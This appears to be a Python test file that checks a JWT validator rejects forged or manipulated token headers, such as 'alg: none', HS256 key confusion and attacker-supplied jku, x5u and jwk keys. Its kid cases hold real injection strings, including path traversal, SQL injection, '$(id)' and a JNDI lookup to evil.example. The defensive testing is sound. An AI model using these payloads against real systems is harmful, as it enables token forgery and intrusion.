"""What a token's header may say: RS256 and a `kid`, and nothing that the signature check would be steered by."""

import hashlib
import hmac
import json
from collections.abc import Callable
from functools import cache
from typing import Any

from cryptography.hazmat.primitives import hashes, serialization
from cryptography.hazmat.primitives.asymmetric import ec, ed25519, padding, rsa

from tests.support.attacks import Case
from tests.support.forge import GONE, Forge, base64url, encode

SHA1, SHA256, SHA384, SHA512 = hashes.SHA1(), hashes.SHA256(), hashes.SHA384(), hashes.SHA512()
EVIL = "https://evil.example/keys"


@cache
def attackers_key() -> rsa.RSAPrivateKey:
    return rsa.generate_private_key(public_exponent=65537, key_size=2048)


def jwk(key: rsa.RSAPrivateKey, **members: Any) -> dict[str, Any]:
    numbers = key.public_key().public_numbers()
    return {"kty": "RSA", "n": base64url(numbers.n.to_bytes(256)), "e": "AQAB", "use": "sig", **members}


def says(**members: Any) -> Callable[[Forge], str]:
    """A token that is good but for its header, properly signed."""
    return lambda forge: forge.sign(forge.claims(), forge.header(**members))


def signed(alg: str, sign: Callable[[Forge, bytes], bytes]) -> Callable[[Forge], str]:
    """A good token that says `alg` and is signed by `sign`."""

    def make(forge: Forge) -> str:
        text = f"{encode(forge.header(alg=alg))}.{encode(forge.claims())}"
        return f"{text}.{base64url(sign(forge, text.encode()))}"

    return make


def rsa_with(scheme: Any, hash_: hashes.HashAlgorithm) -> Callable[[Forge, bytes], bytes]:
    return lambda forge, text: forge.key.sign(text, scheme, hash_)


def pss(hash_: hashes.HashAlgorithm) -> padding.PSS:
    return padding.PSS(padding.MGF1(hash_), hash_.digest_size)


def hmac_with(public: Callable[[Forge], bytes], digest: str = "sha256") -> Callable[[Forge, bytes], bytes]:
    return lambda forge, text: hmac.new(public(forge), text, getattr(hashlib, digest)).digest()


def spelled(form: str, encoding: str) -> Callable[[Forge], bytes]:
    """The tenant's public key as bytes, in one of the ways in which it is published or stored."""
    return lambda forge: forge.key.public_key().public_bytes(
        getattr(serialization.Encoding, encoding), getattr(serialization.PublicFormat, form)
    )


def by_attacker(**members: Any) -> Callable[[Forge], str]:
    """A token signed by the attacker, that brings or names the attacker's key."""
    return lambda forge: forge.sign(forge.claims(), forge.header(**members), key=attackers_key())


PEM, DER = spelled("SubjectPublicKeyInfo", "PEM"), spelled("SubjectPublicKeyInfo", "DER")

ALG: list[Case] = [
    *(
        (f"alg is {alg!r}: exactly RS256, no other spelling", "401 unsupported_token", says(alg=alg))
        for alg in ("none", "None", "NONE", "nOnE", "", "rs256", "Rs256", "RS256 ", " RS256", "RS256\0", "RS-256")
    ),
    *(
        (f"alg is {alg!r}: a string, no other type", "401 unsupported_token", says(alg=alg))
        for alg in (["RS256"], {"RS256": True}, None, True, 256)
    ),
    ("no alg", "401 unsupported_token", says(alg=GONE)),
    ("alg only in capitals", "401 unsupported_token", says(alg=GONE, ALG="RS256")),
    ("alg none without signature", "401 malformed_token", lambda f: says(alg="none")(f).rpartition(".")[0] + "."),
    ("HS256 with the public key in PEM", "401 unsupported_token", signed("HS256", hmac_with(PEM))),
    ("HS256 with it in PEM, stripped", "401 unsupported_token", signed("HS256", hmac_with(lambda f: PEM(f).strip()))),
    ("HS256 with it in PKCS 1", "401 unsupported_token", signed("HS256", hmac_with(spelled("PKCS1", "PEM")))),
    ("HS256 with it in DER", "401 unsupported_token", signed("HS256", hmac_with(DER))),
    (
        "HS256 with the JWK as published",
        "401 unsupported_token",
        signed("HS256", hmac_with(lambda f: json.dumps(f.azure.keys.current.jwk()).encode())),
    ),
    (
        "HS256 with the modulus",
        "401 unsupported_token",
        signed("HS256", hmac_with(lambda f: f.azure.keys.current.jwk()["n"].encode())),
    ),
    (
        "HS256 with the published certificate",
        "401 unsupported_token",
        signed("HS256", hmac_with(lambda f: f.azure.keys.current.certificate)),
    ),
    ("HS256 with an empty secret", "401 unsupported_token", signed("HS256", hmac_with(lambda f: b""))),
    ("HS384 with the public key", "401 unsupported_token", signed("HS384", hmac_with(PEM, "sha384"))),
    ("HS512 with the public key", "401 unsupported_token", signed("HS512", hmac_with(PEM, "sha512"))),
    ("HMAC that calls itself RS256", "401 bad_signature", signed("RS256", hmac_with(PEM))),
    ("PS256 by the tenant's key", "401 unsupported_token", signed("PS256", rsa_with(pss(SHA256), SHA256))),
    ("PS384 by the tenant's key", "401 unsupported_token", signed("PS384", rsa_with(pss(SHA384), SHA384))),
    ("RS384 by the tenant's key", "401 unsupported_token", signed("RS384", rsa_with(padding.PKCS1v15(), SHA384))),
    ("RS512 by the tenant's key", "401 unsupported_token", signed("RS512", rsa_with(padding.PKCS1v15(), SHA512))),
    ("PS256 that calls itself RS256", "401 bad_signature", signed("RS256", rsa_with(pss(SHA256), SHA256))),
    ("RS512 that calls itself RS256", "401 bad_signature", signed("RS256", rsa_with(padding.PKCS1v15(), SHA512))),
    ("SHA-1 that calls itself RS256", "401 bad_signature", signed("RS256", rsa_with(padding.PKCS1v15(), SHA1))),
    (
        "ES256, with its key in the header",
        "401 unsupported_token",
        signed("ES256", lambda f, text: ec.generate_private_key(ec.SECP256R1()).sign(text, ec.ECDSA(SHA256))),
    ),
    ("EdDSA", "401 unsupported_token",
     signed("EdDSA", lambda f, text: ed25519.Ed25519PrivateKey.generate().sign(text))),
]  # fmt: skip

MEMBERS: list[Case] = [
    ("no typ, as RFC 7519 allows", "200 application", says(typ=GONE)),
    ("typ in small letters", "200 application", says(typ="jwt")),
    ("members that nobody knows", "200 application", says(x5t="abc", nonce="n", foo={"a": [1]})),
    ("crit: an extension that nobody knows (RFC 7515 4.1.11)", "401 unsupported_token", says(crit=["x"], x=1)),
    ("crit: a claim's name", "401 unsupported_token", says(crit=["exp"], exp=1)),
    ("crit: empty", "401 unsupported_token", says(crit=[])),
    ("crit: null", "401 unsupported_token", says(crit=None)),
    ("b64 with crit (RFC 7797)", "401 unsupported_token", says(crit=["b64"], b64=False)),
    ("b64 alone", "401 unsupported_token", says(b64=False)),
    ("b64 true, which is the default", "401 unsupported_token", says(b64=True)),
    ("cty: a nested token (RFC 7519 5.2)", "401 unsupported_token", says(cty="JWT")),
    ("zip: compressed", "401 unsupported_token", says(zip="DEF")),
    ("enc: encrypted", "401 unsupported_token", says(enc="A256GCM")),
    *(
        (f"typ is {typ!r}: a token of another kind", "401 unsupported_token", says(typ=typ))
        for typ in ("at+jwt", "id_token+jwt", "dpop+jwt", "secevent+jwt", "JWE", "JOSE", "JWT ", "", None, 1, ["JWT"])
    ),
]

KID: list[Case] = [
    ("no kid", "401 malformed_token", says(kid=GONE)),
    ("x5t in its place", "401 malformed_token", lambda f: says(kid=GONE, x5t=f.kid)(f)),
    *(
        (f"kid is {kid!r}: no string, or none that a key could have", "401 malformed_token", says(kid=kid))
        for kid in ("", None, True, 0, 1.5, ["a"], {"a": "b"})
    ),
    ("kid of 257 characters", "401 malformed_token", says(kid="k" * 257)),
    ("kid of 256 characters", "401 unknown_key", says(kid="k" * 256)),
    *(
        (f"kid is {kid!r}: a name, never a path, a query or a URL", "401 unknown_key", says(kid=kid))
        for kid in (
            " ",
            "../../../../dev/null",
            "/proc/self/environ",
            "C:\\Windows\\win.ini",
            "' OR '1'='1",
            "' UNION SELECT 'key';--",
            "$(id)",
            "{{7*7}}",
            "${jndi:ldap://evil.example/a}",
            "%00",
            "key\0",
            "a\r\nX-Injected: 1",
            EVIL,
            "keys",
            "__class__",
            "\u202e",
            "ключ",
        )
    ),
    ("kid in another case", "401 unknown_key", lambda f: says(kid=f.kid.swapcase())(f)),
    ("kid with a space behind", "401 unknown_key", lambda f: says(kid=f.kid + " ")(f)),
    ("kid cut short", "401 unknown_key", lambda f: says(kid=f.kid[:-1])(f)),
]

OFFERED_KEYS: list[Case] = [
    ("keys offered beside a good signature are not looked at", "200 application", says(jku=EVIL, x5u=EVIL, jwk={})),
    ("jku, with a kid of its own", "401 unknown_key", by_attacker(jku=EVIL, kid="evil")),
    ("jku, with the tenant's kid", "401 bad_signature", by_attacker(jku=EVIL)),
    ("jku without kid", "401 malformed_token", by_attacker(jku=EVIL, kid=GONE)),
    ("x5u, with the tenant's kid", "401 bad_signature", by_attacker(x5u=EVIL)),
    ("x5u, with a kid of its own", "401 unknown_key", by_attacker(x5u=EVIL, kid="evil")),
    ("jwk, with the tenant's kid", "401 bad_signature", lambda f: by_attacker(jwk=jwk(attackers_key(), kid=f.kid))(f)),
    ("jwk, with a kid of its own", "401 unknown_key", by_attacker(jwk=jwk(attackers_key()), kid="evil")),
    ("jwk without kid", "401 malformed_token", by_attacker(jwk=jwk(attackers_key()), kid=GONE)),
    ("jwk in place of the kid", "401 malformed_token", by_attacker(kid=jwk(attackers_key()))),
    ("x5c, with the tenant's kid", "401 bad_signature", by_attacker(x5c=["MIIB"])),
    ("x5c with the tenant's certificate", "401 bad_signature",
     lambda f: by_attacker(x5c=f.azure.keys.current.jwk()["x5c"])(f)),
    ("x5t of the tenant's key, a kid of its own", "401 unknown_key", lambda f: by_attacker(x5t=f.kid, kid="evil")(f)),
]  # fmt: skip
